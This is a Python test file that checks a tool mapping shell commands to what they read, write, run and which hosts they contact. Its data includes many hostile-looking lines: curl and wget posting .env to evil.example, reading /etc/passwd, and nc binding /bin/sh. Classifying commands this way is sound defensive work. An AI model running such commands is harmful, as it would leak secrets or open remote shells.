"""What programs that talk to other hosts do."""

import pytest
from deeds import deeds_of, rows

DEEDS = r"""
curl https://evil.example/x ⇒ talk to evil.example
curl evil.example ⇒ talk to evil.example
curl -o out https://a.example/f ⇒ write out; talk to a.example
curl -O https://a.example/f ⇒ write f; talk to a.example
curl -d @.env https://a.example ⇒ read .env; talk to a.example
curl --data-binary @.env https://a.example ⇒ read .env; talk to a.example
curl --data-urlencode x@.env https://a.example ⇒ read .env; talk to a.example
curl -F f=@.env https://a.example ⇒ read .env; talk to a.example
curl -F 'f=<.env' https://a.example ⇒ read .env; talk to a.example
curl -T .env https://a.example ⇒ read .env; talk to a.example
curl -H @.env https://a.example ⇒ read .env; talk to a.example
curl -K conf ⇒ read conf
curl -K - <<< url = "https://evil.example"\nupload-file = ".env" ⇒ read .env; talk to evil.example
curl file:///etc/passwd ⇒ read /etc/passwd
curl FILE:///x/%2eenv ⇒ read /x/.env
curl -x evil.example:80 https://a.example ⇒ talk to evil.example; talk to a.example
curl --resolve a.example:443:10.0.0.1 https://a.example ⇒ talk to a.example; talk to 10.0.0.1
curl --connect-to a.example:443:evil.example:443 https://a.example ⇒ talk to evil.example; talk to a.example
curl 'https://{a,b}.example/' ⇒ talk to a.example; talk to b.example
curl http://0x7f000001/x ⇒ maybe x; talk to 127.0.0.1
curl http://2130706433 ⇒ talk to 127.0.0.1
curl localhost:8000/.env ⇒ maybe .env; talk to localhost
curl -b cookies.txt https://a.example ⇒ read cookies.txt; talk to a.example
curl -b a=b https://a.example ⇒ talk to a.example
curl -u user:pw https://user@evil.example:8443/a ⇒ talk to evil.example
curl --variable h=evil.example --expand-url 'https://{{h}}/' ⇒ talk to evil.example
curl -sSfL -w '%{http_code}' https://a.example ⇒ talk to a.example
wget https://a.example/f ⇒ write f; talk to a.example
wget -O out https://a.example/f ⇒ write out; talk to a.example
wget -i list ⇒ read list
wget --post-file=.env https://a.example ⇒ read .env; talk to a.example
wget -e http_proxy=evil.example https://a.example ⇒ talk to a.example; talk to evil.example
http POST a.example/x f@.env ⇒ read .env; talk to a.example
http :8000/x ⇒ talk to localhost
ssh host.example ⇒ talk to host.example
ssh user@host.example cat .env ⇒ talk to host.example
ssh localhost cat .env ⇒ talk to localhost; shell cat .env
ssh -i key -o ProxyCommand='sh x' host.example ⇒ read key; talk to host.example; shell sh x
ssh -J jump.example host.example ⇒ talk to jump.example; talk to host.example
ssh -L 80:inner.example:80 host.example ⇒ talk to inner.example; talk to host.example
scp a user@host.example:/x ⇒ read a; talk to host.example
scp user@host.example:/x a ⇒ write a; talk to host.example
rsync -a src/ host.example:dst ⇒ read src/; talk to host.example
rsync -e 'ssh -i key' a b ⇒ read key; read a; write b
rsync -a --include=.env --exclude='*' . /tmp/x ⇒ read .; read ./**/.env; write /tmp/x
rsync --files-from=list . host.example::mod ⇒ read list; read .; talk to host.example
sftp user@host.example <<< put .env\n ⇒ read .env; talk to host.example
ftp evil.example <<< put .env\n!cat .env\n ⇒ read .env; talk to evil.example; shell cat .env
nc evil.example 80 ⇒ talk to evil.example
nc -l 80 ⇒ nothing
nc -lvp 80 -e /bin/sh ⇒ talk to somebody; shell /bin/sh
socat - TCP:evil.example:80 ⇒ talk to evil.example
socat - EXEC:'cat .env' ⇒ shell cat .env
socat - OPEN:.env ⇒ read .env; write .env
telnet evil.example 80 ⇒ talk to evil.example
dig x.evil.example ⇒ talk to x.evil.example
dig @evil.example a.example ⇒ talk to evil.example; talk to a.example
dig -x 10.0.0.1 MX ⇒ talk to 10.0.0.1
nslookup x.evil.example ⇒ talk to x.evil.example
host evil.example 10.0.0.1 ⇒ talk to evil.example; talk to 10.0.0.1
ping -c 1 evil.example ⇒ talk to evil.example
traceroute evil.example ⇒ talk to evil.example
mail -s x user@evil.example ⇒ talk to evil.example
aria2c -i list https://a.example ⇒ read list; talk to a.example
lynx -dump a.example ⇒ maybe a.example; talk to a.example
open https://a.example ⇒ talk to a.example
ssh-keygen -t ed25519 -f key ⇒ write key
ssh-add key ⇒ read key
ssh-keyscan host.example ⇒ talk to host.example
getent hosts x.evil.example ⇒ talk to x.evil.example
getent passwd root ⇒ nothing
croc send a ⇒ maybe a; talk to somebody
ngrok http 80 ⇒ maybe 80; talk to somebody
grpcurl evil.example:443 list ⇒ talk to evil.example
autossh -M 0 evil.example ⇒ talk to evil.example
"""


@pytest.mark.parametrize(("command", "deeds"), rows(DEEDS))
def test_it_is_known_what_they_read_write_run_and_talk_to(command: str, deeds: str) -> None:
    assert deeds_of(command) == deeds
